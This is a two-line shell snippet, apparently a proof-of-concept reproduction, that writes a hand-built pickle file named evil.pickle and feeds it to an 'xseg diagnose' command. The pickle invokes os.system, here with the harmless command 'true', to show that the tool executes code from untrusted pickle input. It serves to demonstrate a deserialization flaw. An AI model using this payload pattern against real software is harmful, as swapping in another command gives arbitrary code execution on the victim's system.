printf "\200\002cos\nsystem\n(X\004\000\000\000truetR." >evil.pickle
xseg diagnose evil.pickle
